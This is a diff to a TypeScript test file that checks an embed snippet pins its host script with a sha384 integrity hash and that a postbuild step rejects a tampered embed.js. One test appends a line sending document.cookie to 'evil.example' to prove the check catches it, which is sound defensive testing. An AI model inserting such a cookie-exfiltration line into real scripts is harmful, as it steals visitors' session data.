@@ -3,6 +3,12 @@ import { describe, expect, it } from 'vitest';
 import fc from 'fast-check';
 import { readFileSync } from 'node:fs';
 import { gzipSync } from 'node:zlib';
+import { spawnSync } from 'node:child_process';
+import { createHash } from 'node:crypto';
+import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { hostScriptProblems } from '../../scripts/postbuild/05-embed-integrity.ts';
 import {
   EMBEDDABLE_FIGURES,
   HOST_SCRIPT_PATH,
@@ -12,6 +18,7 @@ import {
   getFigure,
   oembedFor,
   oembedPath,
+  publishedHostScriptIntegrity,
   type EmbeddableFigure,
 } from '../../src/lib/embeds.ts';
 import { EMBED_MESSAGE_NS, MAX_EMBED_HEIGHT, isSizeMessage, isSizeRequest, sizeMessage, sizeRequest } from '../../src/scripts/embed/protocol.ts';
@@ -66,6 +73,16 @@ describe('embed snippet', () => {
     expect(script['src']).toBe(`${SITE}${HOST_SCRIPT_PATH}`);
     expect('async' in script).toBe(true);
     expect(snippet).toMatch(/<\/iframe>\n<script [^>]*><\/script>$/);
+  });
+
+  it('pins the host script to the bytes of public/embed.js and sends the host only its origin as referrer', () => {
+    const snippet = embedSnippet(EMBEDDABLE_FIGURES[0]!, SITE);
+    const script = attributesOf(snippet, 'script');
+    const expected = `sha384-${createHash('sha384').update(readFileSync('public/embed.js')).digest('base64')}`;
+    expect(script['integrity']).toBe(expected);
+    expect(publishedHostScriptIntegrity()).toBe(expected);
+    expect(script['crossorigin']).toBe('anonymous');
+    expect(attributesOf(snippet, 'iframe')['referrerpolicy']).toBe('strict-origin-when-cross-origin');
   });
 
   it('escapes a title so it cannot break out of its attribute', () => {
@@ -144,5 +161,36 @@ describe('host script', () => {
     const gzipped = gzipSync(HOST_SCRIPT).length;
     expect(gzipped).toBeLessThanOrEqual(1024);
     expect(HOST_SCRIPT).not.toMatch(/\bimport\b|\brequire\(|https?:\/\//);
+  });
+});
+
+describe('the build checks the shipped host script', () => {
+  const site = () => {
+    const dir = mkdtempSync(join(tmpdir(), 'embed-integrity-'));
+    cpSync('public/embed.js', join(dir, 'embed.js'));
+    writeFileSync(join(dir, 'index.html'), embedSnippet(EMBEDDABLE_FIGURES[0]!, SITE));
+    return dir;
+  };
+
+  it('accepts an exact copy pinned by its own hash', () => {
+    const dir = site();
+    expect(hostScriptProblems(dir)).toEqual([]);
+    rmSync(dir, { recursive: true });
+  });
+
+  it('fails the build when dist/embed.js was changed, naming the file', () => {
+    const dir = site();
+    writeFileSync(join(dir, 'embed.js'), `${HOST_SCRIPT}\nfetch('https://evil.example/?' + document.cookie);\n`);
+    const result = spawnSync(process.execPath, ['scripts/postbuild.ts', dir], { encoding: 'utf8' });
+    expect(result.status).not.toBe(0);
+    expect(result.stderr).toContain(`${join(dir, 'embed.js')} differs from public/embed.js: something in the build changed the host script that other sites load`);
+    rmSync(dir, { recursive: true });
+  });
+
+  it('fails when a published snippet pins other bytes', () => {
+    const dir = site();
+    writeFileSync(join(dir, 'index.html'), embedSnippet(EMBEDDABLE_FIGURES[0]!, SITE, 'sha384-AAAA'));
+    expect(hostScriptProblems(dir)).toEqual([expect.stringMatching(/^index\.html: pins the host script as sha384-AAAA, but public\/embed\.js is sha384-/)]);
+    rmSync(dir, { recursive: true });
   });
 });
